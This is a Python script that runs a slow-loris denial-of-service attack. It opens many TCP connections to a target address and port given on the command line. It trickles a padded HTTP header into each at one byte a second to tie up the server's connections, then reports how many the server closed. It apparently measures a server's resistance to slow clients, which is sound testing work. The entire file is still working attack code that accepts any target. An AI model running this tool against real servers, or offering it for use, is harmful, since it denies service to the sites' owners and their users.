"""Opens COUNT connections to ADDRESS PORT and sends heads at a byte a second for SECONDS: a slow loris.

Says "open" when all are there, then how many the other end closed and after how long the first one was."""

import selectors
import socket
import sys
import time

address, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
head = b"GET / HTTP/1.1\r\nHost: a.test\r\nX-Slow: " + b"z" * 10000
started = time.monotonic()
selector = selectors.DefaultSelector()
connections = []
for _ in range(count):
    connection = socket.create_connection((address, port), timeout=10)
    connection.setblocking(False)
    selector.register(connection, selectors.EVENT_READ)
    connections.append(connection)
print("open", flush=True)

closed, first, position = 0, 0.0, 0
next_byte = time.monotonic()
while connections and time.monotonic() - started < seconds:
    if time.monotonic() >= next_byte:
        for connection in connections:
            try:
                connection.send(head[position : position + 1])
            except OSError:
                pass  # seen below as readable
        position += 1
        next_byte += 1
    for key, _ in selector.select(0.2):
        try:
            ended = not key.fileobj.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            ended = True
        if ended:
            closed += 1
            first = first or time.monotonic() - started
            selector.unregister(key.fileobj)
            connections.remove(key.fileobj)
            key.fileobj.close()
print("%d %.1f" % (closed, first), flush=True)
